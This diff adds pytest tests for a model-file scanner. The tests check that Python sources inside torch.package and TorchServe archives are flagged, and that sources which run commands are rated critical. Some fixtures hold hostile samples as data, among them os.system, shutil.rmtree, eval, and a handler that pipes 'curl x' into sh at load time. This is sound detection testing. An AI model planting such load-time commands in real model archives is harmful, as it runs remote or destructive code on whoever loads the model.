@@ -1,0 +1,98 @@
+"""Python sources that archives carry for their loaders to import: torch.package modules (made by
+torch.package.PackageExporter itself) and TorchServe handlers (.mar). Their code runs by design
+when the model is loaded, so they are never clean; a source that runs commands is critical."""
+from __future__ import annotations
+
+import json
+import sys
+import zipfile
+
+import pytest
+import torch
+
+from tensorscope.scan import Severity, scan_paths
+
+
+def _package(tmp_path, source: str):
+    """A real torch.package archive (PackageExporter, a benign interned module ``tsmod``) whose
+    module source is then replaced by ``source`` in the zip, as an attacker edits one: the
+    payload is never imported here."""
+    src = tmp_path / "src"
+    src.mkdir()
+    (src / "tsmod.py").write_text(_NET)
+    sys.path.insert(0, str(src))
+    try:
+        import tsmod
+        from torch.package import PackageExporter
+        made = tmp_path / "made.pt"
+        with PackageExporter(str(made)) as e:
+            e.intern("tsmod")
+            e.extern("torch.**")
+            e.save_pickle("model", "model.pkl", tsmod.Net())
+    finally:
+        sys.path.remove(str(src))
+        sys.modules.pop("tsmod", None)
+    path = tmp_path / "pkg.pt"
+    with zipfile.ZipFile(made) as zin, zipfile.ZipFile(path, "w") as zout:
+        for item in zin.infolist():
+            data = zin.read(item.filename)
+            if item.filename.endswith("/tsmod.py"):
+                data = (source + _NET).encode()
+            zout.writestr(item, data)
+    return path
+
+
+_NET = ("import torch\n"
+        "class Net(torch.nn.Module):\n"
+        "    def __init__(self):\n"
+        "        super().__init__()\n"
+        "        self.l = torch.nn.Linear(2, 2)\n")
+
+
+def _found(path):
+    report = scan_paths(path)
+    return [(f.rule, f.severity, f.trigger) for f in report.findings
+            if f.rule == "archive.python-source"], report
+
+
+def test_torch_package_modules_are_never_clean(tmp_path):
+    found, report = _found(_package(tmp_path, "SCALE = 2\n"))
+    assert [(r, s) for r, s, _ in found] == [("archive.python-source", Severity.MEDIUM)]
+    assert report.exit_code() == 1
+
+
+@pytest.mark.parametrize("source,trigger", [
+    ("import os\nos.system('id')\n", "os.system"),
+    ("import subprocess\n", "subprocess"),
+    ("eval(compile('1', 'x', 'eval'))\n", "eval"),
+    ("import shutil\nshutil.rmtree('/nonexistent/x')\n", "shutil.rmtree"),
+])
+def test_a_package_module_that_runs_commands_is_critical(tmp_path, source, trigger):
+    found, report = _found(_package(tmp_path, source))
+    assert ("archive.python-source", Severity.CRITICAL, trigger) in found
+    assert report.severity == Severity.CRITICAL
+
+
+def test_torchserve_handler_is_judged(tmp_path):
+    torch.save({"w": torch.zeros(2)}, tmp_path / "w.pt")
+    path = tmp_path / "model.mar"
+    with zipfile.ZipFile(path, "w") as z:
+        z.writestr("MAR-INF/MANIFEST.json", json.dumps({"runtime": "python", "model": {
+            "modelName": "m", "serializedFile": "w.pt", "handler": "handler.py"}}))
+        z.writestr("handler.py", "from ts.torch_handler.base_handler import BaseHandler\n"
+                                 "import subprocess as sp\n"
+                                 "class H(BaseHandler):\n"
+                                 "    def initialize(self, ctx):\n"
+                                 "        sp.run(['sh', '-c', 'curl x | sh'])\n")
+        z.write(tmp_path / "w.pt", "w.pt")
+    found, report = _found(path)
+    assert ("archive.python-source", Severity.CRITICAL, "subprocess") in found
+    assert report.severity == Severity.CRITICAL
+
+
+def test_source_that_does_not_tokenize_is_not_clean(tmp_path):
+    path = tmp_path / "bad.mar"
+    with zipfile.ZipFile(path, "w") as z:
+        z.writestr("handler.py", "def f(:\n    '''unterminated")
+    found, _ = _found(path)
+    assert any(s == Severity.CRITICAL for _, s, _ in found)
